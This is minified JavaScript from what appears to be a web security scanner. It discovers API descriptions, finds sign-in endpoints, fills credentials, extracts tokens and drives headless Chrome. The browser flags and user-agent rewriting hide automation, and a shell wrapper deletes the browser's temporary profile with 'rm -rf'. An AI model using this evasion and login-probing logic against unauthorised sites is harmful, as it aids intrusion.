const SCOPES_MAX = 20;
const openapi_METHODS = [ "get", "head", "post", "put", "patch", "delete" ];
const NOT_SENT = new Set([ "accept", "content-type", "authorization", "cookie", "host", "content-length" ]);
function openApiVersion(document) {
const version = String(document["openapi"] ?? document["swagger"] ?? "").slice(0, 20);
if (!/^(?:2\.0|3\.[0-9])(?:\.|$)/.test(version) || !(0, shared_records.u4)(document["paths"])) return null;
return version.slice(0, 3);
}
function readOpenApi(document, version, address) {
const schemas = new SchemaReader(document);
const paths = Object.entries((0, shared_records.u4)(document["paths"]) ? document["paths"] : {});
const nouns = nounsOf(paths, address);
const places = [];
let leftOut = Math.max(0, paths.length - PATHS_MAX);
for (const [path, entry] of paths.slice(0, PATHS_MAX)) {
const item = schemas.resolve(entry);
if (item !== null && path.startsWith("/")) places.push(...placesOf({
document: document,
schemas: schemas,
nouns: nouns,
address: address,
path: path,
item: item
})); else if (!path.startsWith("x-")) leftOut += 1;
}
const operations = [];
for (const place of places) {
const operation = operations.length < OPERATIONS_MAX ? readOperation(place) : null;
if (operation === null) leftOut += 1; else operations.push(operation);
}
return {
format: "openapi",
version: version,
operations: operations,
leftOut: leftOut,
carriers: tokenCarriers(document)
};
}
function nounsOf(paths, address) {
const nouns = new Set;
for (const [path] of paths.slice(0, PATHS_MAX)) {
const url = URL.parse(path, address);
if (url !== null) (0, act_address.Mk)(url, nouns);
}
return nouns;
}
function placesOf(path) {
return openapi_METHODS.flatMap(method => {
const node = path.schemas.resolve(path.item[method]);
return node === null ? [] : {
...path,
method: method,
node: node
};
});
}
function readOperation(place) {
const {document: document, schemas: schemas, address: address, item: item, node: node, method: method} = place;
const [path = "", query = ""] = place.path.split("#", 1)[0]?.split("?") ?? [];
const template = `${address.origin}${basePathOf(document, item, node, address)}${path}`;
if (template.length > 2e3 || !URL.canParse(template) || /\s/.test(template)) return null;
const given = parametersOf(place);
const fixed = [ ...new URLSearchParams(query) ].map(([name, value]) => fixedParameter(name, value));
const parameters = [ ...given.flatMap(one => readParameter(schemas, one)), ...fixed, ...missing(path, given) ];
const body = describedBody(place, given);
if (body === "unsupported") return null;
const name = textOf(node["operationId"]);
const isReading = method === "get" || method === "head";
return {
format: "openapi",
id: `${method.toUpperCase()} ${new URL(template).pathname.replaceAll("%7B", "{").replaceAll("%7D", "}")}`,
method: method.toUpperCase(),
template: template,
parameters: parameters.slice(0, PARAMETERS_MAX),
headers: [],
body: isReading ? null : body,
response: responseOf(place),
...securityOf(document, node),
isRead: isReading && !namesWriting(path, name, textOf(node["summary"]), place.nouns)
};
}
function parametersOf({schemas: schemas, item: item, node: node}) {
const found = new Map;
for (const list of [ item["parameters"], node["parameters"] ]) for (const entry of Array.isArray(list) ? list.slice(0, PARAMETERS_MAX) : []) {
const parameter = schemas.resolve(entry);
if (parameter !== null && typeof parameter["name"] === "string") found.set(`${String(parameter["in"])} ${parameter["name"]}`, parameter);
}
return [ ...found.values() ];
}
function readParameter(schemas, node) {
const place = node["in"];
const name = String(node["name"]).slice(0, 200);
if (place !== "path" && place !== "query" && place !== "header" && place !== "cookie") return [];
if (place === "header" && (NOT_SENT.has(name.toLowerCase()) || !/^[\w.!#$%&'*+^`|~-]{1,100}$/.test(name))) return [];
const schema = openapi_schemaOf(schemas, node);
const given = schema_reader_exampleOf(node);
const sample = given === undefined ? schemas.sample(schema, name) : {
value: given,
isInvented: false
};
return [ {
in: place,
name: name,
isRequired: place === "path" || node["required"] === true,
schema: schemas.read(schema),
value: textOfValue(sample.value),
...sample.isInvented ? {
isInvented: true
} : {}
} ];
}
function openapi_schemaOf(schemas, node) {
if (node["schema"] !== undefined) return node["schema"];
const {content: content} = node;
if (!(0, shared_records.u4)(content)) return node;
const [first] = Object.values(content);
return schemas.resolve(first)?.["schema"] ?? {};
}
function missing(path, given) {
const names = new Set(given.flatMap(one => one["in"] === "path" ? [ one["name"] ] : []));
const braces = [ ...path.matchAll(/\{([^{}/]{1,100})\}/g) ].map(([, name = ""]) => name);
return [ ...new Set(braces) ].filter(name => !names.has(name)).map(name => ({
in: "path",
name: name,
isRequired: true,
schema: {
type: "unknown"
},
value: "1",
isInvented: true
}));
}
function fixedParameter(name, value) {
return {
in: "query",
name: name,
isRequired: true,
schema: {
type: "string"
},
value: value
};
}
function responseOf({schemas: schemas, node: node}) {
const responses = (0, shared_records.u4)(node["responses"]) ? node["responses"] : {};
const status = Object.keys(responses).filter(code => /^2(?:\d\d|XX)$/i.test(code)).sort()[0];
const response = schemas.resolve(responses[status ?? "default"]);
if (response === null) return null;
const {content: content} = response;
const type = (0, shared_records.u4)(content) ? Object.keys(content).find(name => JSON_TYPE.test(name)) : undefined;
const media = (0, shared_records.u4)(content) && type !== undefined ? schemas.resolve(content[type]) : response;
return media?.["schema"] === undefined ? null : schemas.read(media["schema"]);
}
function securityOf(document, node) {
const listed = node["security"] ?? document["security"];
const alternatives = Array.isArray(listed) ? listed.filter(one => (0, shared_records.u4)(one)) : [];
if (alternatives.length === 0) return {
security: "none",
scopes: []
};
if (alternatives.some(one => Object.keys(one).length === 0)) return {
security: "optional",
scopes: []
};
const scopes = alternatives.flatMap(one => Object.values(one)).flatMap(list => Array.isArray(list) ? list : []);
const names = scopes.filter(scope => typeof scope === "string" && scope.length <= 200);
return {
security: "required",
scopes: [ ...new Set(names) ].slice(0, SCOPES_MAX)
};
}
function textOf(value) {
return typeof value === "string" ? value.slice(0, 500) : "";
}
const postman_DEPTH_MAX = 20;
const ITEMS_MAX = 5e3;
const STEPS_MAX = 3;
function readPostman(document, origin) {
if (!Array.isArray(document["item"]) || !(0, shared_records.u4)(document["info"])) return null;
const variables = new Map(namedPairs(document["variable"], "key"));
const found = new Map;
let leftOut = 0;
for (const item of requestsIn(document["item"])) {
const operation = postman_operationOf(item, variables, origin);
if (operation === null || found.size >= OPERATIONS_MAX && !found.has(operation.id)) leftOut += 1; else if (!found.has(operation.id)) found.set(operation.id, operation);
}
return {
format: "postman",
version: "",
operations: [ ...found.values() ],
leftOut: leftOut
};
}
function requestsIn(items) {
const found = [];
let left = ITEMS_MAX;
const visit = (list, depth) => {
for (const item of list) {
left -= 1;
if (left < 0 || !(0, shared_records.u4)(item)) continue;
if (item["request"] !== undefined) found.push(item);
const {item: inner} = item;
if (Array.isArray(inner) && depth > 0) visit(inner, depth - 1);
}
};
visit(items, postman_DEPTH_MAX);
return found;
}
function postman_operationOf(item, variables, origin) {
const {request: request} = item;
const fill = text => filled(text, variables);
const raw = typeof request === "string" ? request : (0, shared_records.$6)(request, "url", "raw") ?? (0, 
shared_records.$6)(request, "url");
if (raw === null) return null;
const given = new Map(namedPairs((0, shared_records.fK)(request, [ "url", "variable" ]), "key").map(([name, value]) => [ name, fill(value) ]));
const url = URL.parse(postman_pathOf(fill(raw)), origin);
if (url === null || url.origin !== origin) return null;
const path = new Map([ ...given ].filter(([name]) => url.pathname.includes(`%7B${name}%7D`)));
return operationOfCall("postman", {
method: (typeof request === "string" ? null : (0, shared_records.$6)(request, "method")) ?? "GET",
url: url,
path: path,
headers: namedPairs((0, shared_records.fK)(request, [ "header" ]), "key").map(([name, value]) => [ name, fill(value) ]),
body: postman_bodyOf(request, fill),
name: typeof item["name"] === "string" ? item["name"].slice(0, 200) : ""
}, origin);
}
function postman_pathOf(raw) {
const withoutHost = raw.slice(0, 2e3).replace(/^(?:[a-z][\w+.-]{0,20}:\/\/[^/?#]{0,300}|\{\{[^{}]{1,100}\}\}|[\w.-]{1,200}(?::\d{1,5})?(?=\/))/i, "");
const [path = "", ...query] = withoutHost.split("#", 1)[0]?.split("?") ?? [];
const rooted = `/${path.replace(/^\/{1,20}/, "")}`.replace(/\{\{([^{}]{1,100})\}\}/g, "{$1}");
const template = rooted.replace(/\/:([A-Za-z_]\w{0,99})/g, "/{$1}");
return query.length === 0 ? template : `${template}?${query.join("?")}`;
}
function postman_bodyOf(request, fill) {
const mode = (0, shared_records.$6)(request, "body", "mode");
if (mode === "urlencoded") {
const fields = namedPairs((0, shared_records.fK)(request, [ "body", "urlencoded" ]), "key").map(([name, value]) => [ name, fill(value) ]);
return {
type: "application/x-www-form-urlencoded",
text: new URLSearchParams(fields).toString()
};
}
const raw = (0, shared_records.$6)(request, "body", "raw");
if (mode === null || mode === "none" || mode === "raw" && (raw ?? "").trim() === "") return null;
const text = mode === "raw" ? fill(raw ?? "") : "";
return {
type: /^\s*[[{]/.test(text) ? "application/json" : "text/plain",
text: text
};
}
function filled(text, variables) {
let result = text.slice(0, 1e5);
for (let step = 0; step < STEPS_MAX && result.includes("{{"); step += 1) result = result.replace(/\{\{([^{}]{1,100})\}\}/g, (whole, name) => variables.get(name.trim()) ?? whole).slice(0, 1e5);
return result;
}
const GRAPHQL_PATH = "/graphql";
function readDescription(text, address) {
const document = (0, description_text.GM)(text);
const version = document === null ? null : openApiVersion(document);
if (document !== null && version !== null) return readOpenApi(document, version, address);
const recorded = document === null ? null : readPostman(document, address.origin) ?? readHar(document, address.origin);
if (recorded !== null) return recorded;
const schema = document === null ? schemaOfText(text) : introspectedSchema(document);
const endpoint = /graphql|\/gql/i.test(address.pathname) && document !== null ? address.pathname : GRAPHQL_PATH;
return schema === null ? null : graphQlOperations(schema, new URL(endpoint, address.origin));
}
function schemaOfText(text) {
return text.length > description_text.H8 ? null : sdlSchema(text);
}
const find_descriptions_TEXT_MAX = 256 * 1024;
const URLS_MAX = 10;
function isDescriptionLink(href) {
const path = (URL.parse(href)?.pathname ?? "").slice(0, 2e3);
return /(?:^|[/._-])(?:openapi|swagger|api-docs|apispec|schema)[\w.-]{0,20}(?:\.json|\.ya?ml)?$|\/api-docs(?:\/|$)/i.test(path);
}
function explorerUrls(text, base) {
const start = text.slice(0, find_descriptions_TEXT_MAX);
if (!/swagger|redoc|rapidoc|api-reference|openapi/i.test(start)) return [];
const found = [ ...start.matchAll(/(?:\b(?:url|configUrl|spec-url|specUrl|data-url)\b["']?\s{0,5}[:=]\s{0,5}|Redoc\.init\(\s{0,5})["']([^"'\s<>]{1,500})["']/gi) ].slice(0, URLS_MAX);
const urls = found.map(([, url = ""]) => URL.parse(url, base)?.href ?? "").filter(isDescriptionLink);
return [ ...new Set(urls) ];
}
function graphQlPaths(text) {
const found = text.slice(0, find_descriptions_TEXT_MAX).matchAll(/["'`](\/[\w./-]{0,100}\bgraphql)["'`]/gi);
return [ ...new Set([ ...found ].slice(0, URLS_MAX).map(([, path = ""]) => path)) ];
}
const EXPLORERS = [ "/swagger-ui/index.html" ];
const LINKED_MAX = 6;
const INTERFACES_MAX = 2;
const DESCRIPTIONS_MAX = 5;
async function findDescriptions(context) {
const read = url => context.fetch({
url: url,
maxBytes: description_text.H8
});
const given = await givenDescription(context.options, context.target.origin, read);
return given ?? {
found: await published(context),
fault: null
};
}
async function givenDescription({api_description: given}, origin, read) {
if (given === undefined) return null;
if (!/^(?:https?:\/\/|\/)\S{1,2000}$/.test(given.trim())) {
const description = readDescription(given, new URL(origin));
if (description === null) return {
found: [],
fault: "it is no description of a supported format"
};
return usable({
source: "option",
description: description
});
}
const url = URL.parse(given.trim(), origin);
if (url === null || url.origin !== origin) return {
found: [],
fault: `its URL is not on ${origin}`
};
const attempt = await read(url.href);
if (!(0, http.m_)(attempt)) return {
found: [],
fault: `${url.href} sent no response: ${attempt.failure.message}`
};
const description = descriptionOf(attempt);
if (description === null) return {
found: [],
fault: `the response of ${url.href} (${attempt.response.status}) is no description`
};
return usable({
source: url.href,
description: description
});
}
function usable(found) {
return {
found: [ found ],
fault: found.description.operations.length === 0 ? "it has no readable operation" : null
};
}
async function published(context) {
const usual = await introspected(context, [ GRAPHQL_PATH ]);
const crawl = await context.gather("crawl");
const seen = crawl.state === "available" ? [ ...crawl.value.pages.map(({exchange: exchange}) => exchange), ...crawl.value.resources ] : [];
const explorers = await fetchAll(context, EXPLORERS);
const linked = [ ...seen, ...explorers ].flatMap(exchange => linksIn(exchange)).filter(url => URL.parse(url)?.origin === context.target.origin);
const fetched = await fetchAll(context, [ ...new Set([ ...DESCRIPTION_PATHS, ...[ ...new Set(linked) ].slice(0, LINKED_MAX) ]) ]);
const named = await introspected(context, interfacesIn(seen));
const found = descriptionsIn([ ...fetched, ...usual, ...named, ...seen ]);
const isApi = seen[0] !== undefined && /\bjson$/.test((0, http.JL)(seen[0]));
return found.length > 0 || !isApi ? found : descriptionsIn(await fetchAll(context, FURTHER_DESCRIPTION_PATHS));
}
function descriptionsIn(exchanges) {
const found = [];
const texts = new Set;
for (const exchange of exchanges) {
if (found.length >= DESCRIPTIONS_MAX) break;
const {text: text} = exchange.response;
const description = texts.has(text) ? null : descriptionOf(exchange);
if (description === null) continue;
texts.add(text);
found.push({
source: exchange.request.url,
description: description
});
}
return found;
}
function interfacesIn(seen) {
const paths = seen.flatMap(exchange => graphQlPaths(exchange.response.text));
return [ ...new Set(paths) ].filter(path => path !== GRAPHQL_PATH).slice(0, INTERFACES_MAX);
}
async function introspected(context, urls) {
const headers = [ [ "Content-Type", "application/json" ] ];
const attempts = urls.map(url => context.fetch({
method: "POST",
url: url,
headers: headers,
body: INTROSPECTION,
maxBytes: description_text.H8
}));
return (await Promise.all(attempts)).filter(http.m_);
}
async function fetchAll(context, urls) {
const attempts = await Promise.all(urls.map(url => context.fetch({
url: url,
maxBytes: description_text.H8
})));
return attempts.filter(http.m_);
}
function linksIn(exchange) {
const links = (0, html_document.lM)(exchange)?.links ?? [];
const named = links.filter(({url: url}) => isDescriptionLink(url)).map(({url: url}) => url);
return [ ...named, ...explorerUrls(exchange.response.text, exchange.request.url) ];
}
function descriptionOf({request: request, response: response}) {
if (response.status !== 200 || response.truncated) return null;
return readDescription(response.text, new URL(request.url));
}
const described_sign_in_DEPTH_MAX = 4;
const SIGN_INS_MAX = 3;
const PROOFS_MAX = 12;
function signInsOf(operations) {
const found = operations.flatMap(operation => {
const signIn = signInOf(operation);
return signIn === null ? [] : {
signIn: signIn,
rank: rankOf(operation)
};
});
return found.sort((one, other) => one.rank - other.rank || one.signIn.url.length - other.signIn.url.length).slice(0, SIGN_INS_MAX).map(({signIn: signIn}) => signIn);
}
function proofsOf(operations) {
const rank = url => {
if ((0, data_names.cP)("caller", lastSegment(url))) return 0;
return (0, data_names.cP)("admin-segment", new URL(url).pathname) ? 2 : 1;
};
return operations.filter(({method: method, isRead: isRead, security: security, template: template, parameters: parameters}) => method === "GET" && isRead && security === "required" && !template.includes("{") && !parameters.some(({isRequired: isRequired, in: place}) => isRequired && place !== "header")).map(({template: template}) => template).sort((one, other) => rank(one) - rank(other) || one.length - other.length).slice(0, PROOFS_MAX);
}
function signInOf(operation) {
const {id: id, method: method, template: template, body: body, format: format, response: response} = operation;
if (method !== "POST" || format === "graphql" || body === null || template.includes("{")) return null;
const path = new URL(template).pathname;
if ((0, data_names.cP)("not-sign-in-form", path) || (0, data_names.cP)("after-sign-in-path", path)) return null;
if ((0, data_names.cP)("user-collection", lastSegment(template))) return null;
const place = credentialsIn(body.schema, []);
if (place === null) return null;
const {encoding: encoding} = body;
if (encoding !== "json" && encoding !== "form") return null;
const properties = place.users.length === 0 ? [ place.password ] : [ ...place.users.slice(0, 1), place.password ];
return {
id: id,
url: template,
encoding: encoding,
properties: properties.map(name => [ ...place.path, name ].join(".")),
body: (username, password) => described_sign_in_filled(body.schema, body.value, place, {
username: username,
password: password
}),
tokenOf: value => tokenAt(value, response)
};
}
function rankOf(operation) {
const path = new URL(operation.template).pathname;
const isNamed = (0, data_names.cP)("sign-in-path", path) || (0, data_names.cP)("token-collection", lastSegment(operation.template));
const isForStaff = (0, data_names.cP)("admin-segment", path) || (0, data_names.cP)("partner-path", path);
return (isNamed ? 0 : 2) + (isForStaff ? 1 : 0);
}
function lastSegment(template) {
return new URL(template).pathname.replace(/\/$/, "").split("/").at(-1) ?? "";
}
function credentialsIn(schema, path) {
const properties = [ ...schema.properties ?? [] ];
const names = properties.map(([name]) => name);
const secrets = properties.filter(([name, {format: format}]) => format === "password" && !(0, 
data_names.cP)("key", name));
const password = names.find(name => (0, data_names.cP)("password", name)) ?? secrets[0]?.[0];
if (password !== undefined) return {
path: path,
password: password,
users: usersIn(schema, password)
};
if (path.length >= described_sign_in_DEPTH_MAX) return null;
for (const [name, inner] of properties) {
const found = inner.type === "object" ? credentialsIn(inner, [ ...path, name ]) : null;
if (found !== null) return found;
}
return null;
}
function usersIn(schema, password) {
const texts = [ ...schema.properties ?? [] ].filter(([name, {type: type}]) => name !== password && (type === "string" || type === "unknown"));
const isRequired = name => schema.required?.includes(name) === true;
const named = texts.map(([name]) => name).filter(name => ((0, data_names.cP)("user", name) || (0, 
data_names.cP)("email", name)) && !(0, data_names.cP)("password", name)).sort((one, other) => Number(isRequired(other)) - Number(isRequired(one)));
if (named.length > 0) return named;
const required = texts.map(([name]) => name).filter(isRequired);
return required.length === 1 ? required : [];
}
function described_sign_in_filled(schema, sample, {path: path, password: password, users: users}, values) {
const [name, ...inner] = path;
const given = (0, shared_records.u4)(sample) ? sample : {};
const body = {};
for (const required of schema.required ?? []) if (Object.hasOwn(given, required)) body[required] = given[required] ?? null;
if (name !== undefined) {
const within = schema.properties?.get(name) ?? {
type: "object"
};
body[name] = described_sign_in_filled(within, given[name] ?? null, {
path: inner,
password: password,
users: users
}, values);
return body;
}
for (const user of usersToFill(schema, users, values.username)) body[user] = values.username;
body[password] = values.password;
if (schema.properties?.has("grant_type") === true) body["grant_type"] = "password";
return body;
}
function usersToFill({required: required = []}, users, username) {
const wanted = users.filter(user => required.includes(user));
if (wanted.length > 0) return wanted;
const prefers = username.includes("@") ? "email" : "user";
const preferred = users.find(user => (0, data_names.cP)(prefers, user)) ?? users[0];
return preferred === undefined ? [] : [ preferred ];
}
const TOKEN = /^[\x21-\x7e]{8,16384}$/;
function tokenAt(value, schema) {
if (schema === null || !(0, shared_records.u4)(value)) return null;
const texts = [ ...schema.properties ?? [] ].filter(([, {type: type}]) => type === "string");
const named = texts.find(([name]) => (0, data_names.cP)("token-property", name)) ?? (texts.length === 1 ? texts[0] : undefined);
const text = named === undefined ? undefined : value[named[0]];
if (typeof text === "string" && TOKEN.test(text)) return text;
for (const [name, inner] of schema.properties ?? []) {
const found = inner.type === "object" ? tokenAt(value[name], inner) : null;
if (found !== null) return found;
}
return null;
}
const describe_login_LINKED_MAX = 4;
const BEARER = {
header: "Authorization",
prefix: "Bearer "
};
const describeLogin = async ({target: target, options: options, fetch: fetch}) => {
const read = url => fetch({
url: url,
identity: "none",
maxBytes: description_text.H8
});
const given = await givenDescription(options, target.origin, read);
if (given !== null) return given.found[0] === undefined ? NOTHING : loginOf(given.found[0].description);
const start = await read(target.startUrl);
const linked = (0, http.m_)(start) ? linksIn(start).filter(url => URL.parse(url)?.origin === target.origin) : [];
const paths = [ ...linked.slice(0, describe_login_LINKED_MAX), ...DESCRIPTION_PATHS, ...FURTHER_DESCRIPTION_PATHS ];
for (const url of new Set(paths.map(path => new URL(path, target.origin).href))) {
const attempt = await read(url);
if (!(0, http.m_)(attempt) || attempt.response.status !== 200 || attempt.response.truncated) continue;
const description = readDescription(attempt.response.text, new URL(url));
if (description !== null && description.operations.length > 0) return loginOf(description);
}
return NOTHING;
};
const NOTHING = {
signIns: [],
carriers: [],
proofs: []
};
function loginOf({operations: operations, carriers: carriers = []}) {
return {
signIns: signInsOf(operations),
carriers: carriers.length === 0 ? [ BEARER ] : carriers,
proofs: proofsOf(operations)
};
}
var external_node_crypto_ = __webpack_require__(77598);
var sign_in_page = __webpack_require__(53221);
var external_node_child_process_ = __webpack_require__(31421);
var external_node_fs_ = __webpack_require__(73024);
var external_node_os_ = __webpack_require__(48161);
var external_node_path_ = __webpack_require__(76760);
const DISABLED_FEATURES = [ "IsolateOrigins", "site-per-process", "LocalNetworkAccessChecks", "HttpsUpgrades", "HttpsFirstBalancedModeAutoEnable", "Translate", "OptimizationHints", "MediaRouter", "DialMediaRouteProvider", "InterestFeedContentSuggestions", "CertificateTransparencyComponentUpdater", "AutofillServerCommunication", "NetworkTimeServiceQuerying", "Prerender2", "BackForwardCache", "RenderDocument", "WebUIOmniboxPopup", "WebUIOmniboxAimPopup" ];
const BROWSER_FLAGS = [ "--headless=new", "--remote-debugging-pipe", "--host-resolver-rules=MAP * ~NOTFOUND", "--proxy-server=127.0.0.1:9", "--proxy-bypass-list=<-loopback>", "--force-webrtc-ip-handling-policy=disable_non_proxied_udp", "--disable-site-isolation-trials", `--disable-features=${DISABLED_FEATURES.join(",")}`, "--js-flags=--max-old-space-size=512", "--disable-blink-features=AutomationControlled", "--disable-background-networking", "--disable-breakpad", "--disable-client-side-phishing-detection", "--disable-component-update", "--disable-crash-reporter", "--disable-default-apps", "--disable-dev-shm-usage", "--disable-domain-reliability", "--disable-extensions", "--disable-gpu", "--disable-popup-blocking", "--disable-search-engine-choice-screen", "--disable-sync", "--hide-scrollbars", "--metrics-recording-only", "--mute-audio", "--no-default-browser-check", "--no-first-run", "--no-pings", "--password-store=basic", "--use-mock-keychain" ];
function browserEnv(home) {
return {
PATH: "/usr/local/bin:/usr/bin:/bin",
HOME: home,
TMPDIR: home,
LANG: "en_US.UTF-8"
};
}
class CdpError extends Error {
code;
constructor(code, message) {
super(message);
this.name = "CdpError";
this.code = code;
}
}
const COMMAND_MS = 1e4;
const MESSAGE_BYTES_MAX = 64 * 1024 * 1024;
class CdpConnection {
closed;
#input;
#pending=new Map;
#listeners=new Map;
#markClosed;
#isClosed=false;
#parts=[];
#size=0;
#next=1;
constructor(input, output) {
this.#input = input;
const {promise: promise, resolve: resolve} = Promise.withResolvers();
this.closed = promise;
this.#markClosed = resolve;
input.on("error", () => this.close());
output.on("error", () => this.close());
output.on("close", () => this.close());
output.on("end", () => this.close());
output.on("data", chunk => this.#read(chunk));
}
get isClosed() {
return this.#isClosed;
}
send(method, parameters = {}, sessionId, ms = COMMAND_MS) {
if (this.#isClosed) return Promise.reject(new CdpError("closed", `${method}: the browser has ended`));
const id = this.#next;
this.#next += 1;
return new Promise((resolve, reject) => {
const timer = setTimeout(() => {
this.#pending.delete(id);
reject(new CdpError("timeout", `${method}: no response within ${ms} ms`));
}, ms);
this.#pending.set(id, {
method: method,
timer: timer,
resolve: resolve,
reject: reject
});
const message = {
id: id,
method: method,
params: parameters,
...sessionId === undefined ? {} : {
sessionId: sessionId
}
};
this.#input.write(`${JSON.stringify(message)}\0`);
});
}
on(method, listener, sessionId = "") {
const key = `${sessionId} ${method}`;
const listeners = this.#listeners.get(key) ?? new Set;
this.#listeners.set(key, listeners.add(listener));
return () => listeners.delete(listener);
}
close() {
if (this.#isClosed) return;
this.#isClosed = true;
for (const {method: method, timer: timer, reject: reject} of this.#pending.values()) {
clearTimeout(timer);
reject(new CdpError("closed", `${method}: the browser has ended`));
}
this.#pending.clear();
this.#listeners.clear();
this.#markClosed();
}
#read(chunk) {
let rest = chunk;
for (let end = rest.indexOf(0); end !== -1 && !this.#isClosed; end = rest.indexOf(0)) {
const text = Buffer.concat([ ...this.#parts, rest.subarray(0, end) ]).toString();
rest = rest.subarray(end + 1);
this.#parts = [];
this.#size = 0;
this.#receive(text);
}
this.#size += rest.length;
this.#parts.push(rest);
if (this.#size > MESSAGE_BYTES_MAX) this.close();
}
#receive(text) {
const message = parsed(text);
if (message === null) {
this.close();
return;
}
const {id: id, method: method, sessionId: sessionId} = message;
if (typeof id === "number") {
const pending = this.#pending.get(id);
this.#pending.delete(id);
if (pending === undefined) return;
clearTimeout(pending.timer);
const error = (0, shared_records.g1)(message["error"]);
if (message["error"] === undefined) pending.resolve((0, shared_records.g1)(message["result"])); else pending.reject(new CdpError("refused", `${pending.method}: ${String(error["message"]).slice(0, 200)}`));
return;
}
const key = `${typeof sessionId === "string" ? sessionId : ""} ${String(method)}`;
for (const listener of this.#listeners.get(key) ?? []) listener((0, shared_records.g1)(message["params"]));
}
}
function parsed(text) {
const message = (0, shared_records.U4)(text);
return message === undefined ? null : (0, shared_records.g1)(message);
}
class CdpSession {
#connection;
#id;
constructor(connection, id) {
this.#connection = connection;
this.#id = id;
}
send(method, parameters = {}, ms) {
return this.#connection.send(method, parameters, this.#id, ms);
}
post(method, parameters = {}) {
this.send(method, parameters).catch(() => undefined);
}
on(method, listener) {
return this.#connection.on(method, listener, this.#id);
}
}
const PAGE_BYTES = 4096;
function sessionMemory(session, measure = "proportional") {
let sum = 0;
for (const name of entries()) {
if (!/^\d+$/.test(name)) continue;
const fields = read(`/proc/${name}/stat`).split(") ").at(-1)?.split(" ") ?? [];
if (Number(fields[3]) === session) sum += measure === "own" ? own(name) : proportional(name);
}
return sum;
}
function proportional(pid) {
const kibibytes = /^Pss:\s+(\d+) kB/m.exec(read(`/proc/${pid}/smaps_rollup`))?.[1];
if (kibibytes !== undefined) return Number(kibibytes) * 1024;
return own(pid);
}
function own(pid) {
const [, resident = "0", shared = "0"] = read(`/proc/${pid}/statm`).split(" ");
return Math.max(0, Number(resident) - Number(shared)) * PAGE_BYTES;
}
function entries() {
try {
return (0, external_node_fs_.readdirSync)("/proc");
} catch {
return [];
}
}
function read(path) {
try {
return (0, external_node_fs_.readFileSync)(path, "utf8");
} catch {
return "";
}
}
var external_node_util_ = __webpack_require__(57975);
const VERSION_MS = 5e3;
const PLATFORMS = {
linux: [ "X11; Linux x86_64", "Linux" ],
darwin: [ "Macintosh; Intel Mac OS X 10_15_7", "macOS" ]
};
const known = new Map;
async function plainUserAgent(path) {
const agent = known.get(path) ?? await ask(path);
if (agent !== null) known.set(path, agent);
return agent;
}
async function ask(path) {
try {
const options = {
timeout: VERSION_MS,
maxBuffer: 1e4,
env: browserEnv((0, external_node_os_.tmpdir)())
};
const {stdout: stdout} = await (0, external_node_util_.promisify)(external_node_child_process_.execFile)(path, [ "--version" ], options);
const major = /\s(\d{2,4})\.\d/.exec(stdout)?.[1];
const platform = PLATFORMS[process.platform]?.[0];
if (major === undefined || platform === undefined) return null;
const edge = stdout.includes("Edge") ? ` Edg/${major}.0.0.0` : "";
return `Mozilla/5.0 (${platform}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${major}.0.0.0 Safari/537.36${edge}`;
} catch {
return null;
}
}
function announced(agent, product) {
const full = /\/(\d[\d.]*)/.exec(product)?.[1] ?? "";
const major = full.split(".", 1)[0] ?? "";
const brands = version => [ {
brand: "Not:A-Brand",
version: version === full ? "8.0.0.0" : "8"
}, {
brand: "Chromium",
version: version
} ];
return {
userAgent: agent.replace("HeadlessChrome", "Chrome"),
userAgentMetadata: {
brands: brands(major),
fullVersionList: brands(full),
platform: PLATFORMS[process.platform]?.[1] ?? "",
platformVersion: "",
architecture: process.arch === "arm64" ? "arm" : "x86",
model: "",
mobile: false
}
};
}
const START_MS = 15e3;
const MEMORY_CHECK_MS = 200;
const EXACT_EVERY = 5;
const MEMORY_BYTES_MAX = 1.2 * 1024 * 1024 * 1024;
const WATCHED = '"$@"; for _ in 1 2 3 4 5; do rm -rf -- "$0" 2>/dev/null && break; sleep 1; done';
class BrowserStartError extends Error {
hasEnded;
constructor(message, hasEnded) {
super(message);
this.name = "BrowserStartError";
this.hasEnded = hasEnded;
}
}
class BrowserProcess {
connection;
product;
sandboxed;
userAgent;
#child;
#profile;
#exited;
#watch;
isTooLarge=false;
constructor(started, version, sandboxed, memoryBytesMax) {
this.connection = started.connection;
this.#child = started.child;
this.#profile = started.profile;
this.#exited = started.exited;
this.product = String(version["product"]).slice(0, 100);
this.userAgent = announced(String(version["userAgent"]).slice(0, 300), this.product);
this.sandboxed = sandboxed;
let checks = 0;
this.#watch = setInterval(() => {
checks += 1;
const measure = checks % EXACT_EVERY === 0 ? "proportional" : "own";
if (sessionMemory(started.child.pid ?? 0, measure) <= memoryBytesMax) return;
this.isTooLarge = true;
this.kill();
}, MEMORY_CHECK_MS).unref();
void this.#exited.then(() => clearInterval(this.#watch));
}
static async start(options) {
const {isRoot: isRoot = process.getuid?.() === 0, memoryBytesMax: memoryBytesMax = MEMORY_BYTES_MAX} = options;
if (isRoot) return BrowserProcess.#started(options.path, false, memoryBytesMax);
try {
return await BrowserProcess.#started(options.path, true, memoryBytesMax);
} catch (error) {
if (!(error instanceof BrowserStartError && error.hasEnded)) throw error;
return BrowserProcess.#started(options.path, false, memoryBytesMax);
}
}
static async #started(path, sandboxed, memoryBytesMax) {
const agent = await plainUserAgent(path);
const flags = agent === null ? [] : [ `--user-agent=${agent}` ];
const started = spawnBrowser(path, sandboxed ? flags : [ "--no-sandbox", ...flags ]);
try {
const version = await started.connection.send("Browser.getVersion", {}, undefined, START_MS);
return new BrowserProcess(started, version, sandboxed, memoryBytesMax);
} catch (error) {
killGroup(started.child);
await started.exited;
removeProfile(started.profile);
const hasEnded = !(error instanceof CdpError && error.code === "timeout");
const reason = hasEnded ? "it ended at once" : "it did not respond";
throw new BrowserStartError(`the browser could not be started: ${reason}`, hasEnded);
}
}
kill() {
killGroup(this.#child);
this.connection.close();
}
async close() {
this.kill();
await this.#exited;
removeProfile(this.#profile);
}
}
function spawnBrowser(path, flags) {
const profile = (0, external_node_fs_.mkdtempSync)((0, external_node_path_.join)((0, 
external_node_os_.tmpdir)(), "scan-gate-browser-"));
const child = (0, external_node_child_process_.spawn)("/bin/sh", [ "-c", WATCHED, profile, path, ...flags, ...BROWSER_FLAGS, `--user-data-dir=${profile}`, "about:blank" ], {
cwd: profile,
env: {
...browserEnv(profile),
DBUS_SESSION_BUS_ADDRESS: "/dev/null"
},
stdio: [ "ignore", "ignore", "ignore", "pipe", "pipe" ],
detached: true
});
const connection = new CdpConnection(child.stdio[3], child.stdio[4]);
const exited = new Promise(resolve => {
child.once("close", () => resolve());
child.once("error", () => {
connection.close();
if (child.pid === undefined) resolve();
});
});
return {
child: child,
connection: connection,
profile: profile,
